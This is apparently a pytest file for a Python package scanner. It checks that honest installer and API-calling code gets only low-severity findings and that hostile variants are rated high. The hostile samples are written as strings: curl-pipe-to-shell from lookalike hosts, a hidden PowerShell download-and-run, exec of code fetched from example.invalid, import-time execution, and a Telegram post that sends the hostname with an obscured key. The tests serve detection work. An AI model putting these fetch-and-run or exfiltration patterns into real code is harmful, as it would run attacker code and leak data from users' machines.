"""Services that checks know by their names, which samples may not hold: what honest clients do there, and who hides behind them."""

from __future__ import annotations

import pytest

from bonded.checks.registry import built_in
from bonded.values.finding import Severity
from tests.facts.programs import wheel_of

RUN, SENT, REACHED = "decoded-or-downloaded-code-executed", "private-data-sent", "questionable-destination"
SHELL = "import subprocess\n\n\ndef make():\n    subprocess.run({!r}, shell=True)\n"
MODEL = "import requests\n\n\ndef solve(question):\n    exec(requests.post('{}', json=question).json()['content'])\n"
PROGRAM = (
    "import os\nimport subprocess\nimport urllib.request\n\n\ndef make(folder):\n    path = os.path.join('/tmp', 'Setup.exe')\n"
    "    urllib.request.urlretrieve('{}', path)\n    subprocess.run([path, '/SILENT'])\n"
)
TELLS = (
    "import socket, base64\n\nimport requests\n\nKEY = {}\n\n\ndef tell(token):\n    text = 'over on ' + socket.gethostname()\n"
    "    requests.post('https://api.telegram.org/bot' + {} + '/sendMessage', json={{'text': text}})\n"
)
NAME = "import requests\n\n\ndef update(name, key):\n    requests.get('https://{}/update', params={{'domains': name, 'token': key}})\n"
HONEST = {
    "toolchain": (RUN, SHELL.format("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y")),
    "containers": (RUN, SHELL.format("curl -fsSL https://get.docker.com -o get.sh && sh get.sh")),
    "toolchain on Windows": (
        RUN,
        SHELL.format('powershell -Command "iwr https://win.rustup.rs/ -OutFile r.exe; ./r.exe"'),
    ),
    "program of a maker": (RUN, PROGRAM.format("https://ollama.com/download/OllamaSetup.exe")),
    "model": (RUN, MODEL.format("https://api.openai.com/v1/chat/completions")),
    "model of one's own": (RUN, MODEL.format("http://localhost:11434/api/generate")),
    "channel of who calls": (SENT, TELLS.format("None", "token")),
    "name of one's own": (REACHED, NAME.format("www.duckdns.org")),
}
HOSTILE = {
    "like a maker": (RUN, SHELL.format("curl -sSf https://sh.rustup.rs.example.invalid | sh")),
    "beside a maker": (RUN, SHELL.format("curl -s https://get.docker.com https://example.invalid/x | sh")),
    "on import": (RUN, "import os\nos.system('curl -sSf https://sh.rustup.rs | sh')\n"),
    "hidden": (RUN, SHELL.format('powershell -w hidden -c "iwr https://win.rustup.rs/ -OutFile r.exe; ./r.exe"')),
    "program of another": (RUN, PROGRAM.format("https://ollama.com.example.invalid/download/OllamaSetup.exe")),
    "file left with a model": (RUN, MODEL.format("https://api.openai.com/v1/files/sample/content")),
    "beside a model": (
        RUN,
        MODEL.format("https://api.openai.com/v1/chat/completions")
        + "\n\ndef more():\n    exec(requests.get('https://example.invalid/x').text)\n",
    ),
    "model on import": (RUN, MODEL.format("https://api.openai.com/v1/chat/completions") + "\n\nsolve('')\n"),
    "channel of the author": (SENT, TELLS.format("'123456:sample'", "KEY")),
    "hidden channel of the author": (SENT, TELLS.format("base64.b64decode('c2FtcGxl').decode()", "KEY")),
    "name of another": (REACHED, NAME.format("sample.duckdns.org")),
}


def gravest(check: str, source: str) -> set[Severity]:
    one = next(each for each in built_in() if each.name == check)
    return {found.severity for found in one.run(wheel_of({"sample/__init__.py": source}), None)}


@pytest.mark.parametrize("who", sorted(HONEST))
def test_a_client_is_at_most_noted(who: str) -> None:
    assert gravest(*HONEST[who]) <= {Severity.INFO, Severity.LOW}


@pytest.mark.parametrize("who", sorted(HOSTILE))
def test_who_hides_behind_one_is_not(who: str) -> None:
    assert gravest(*HOSTILE[who]) & {Severity.HIGH, Severity.CRITICAL}
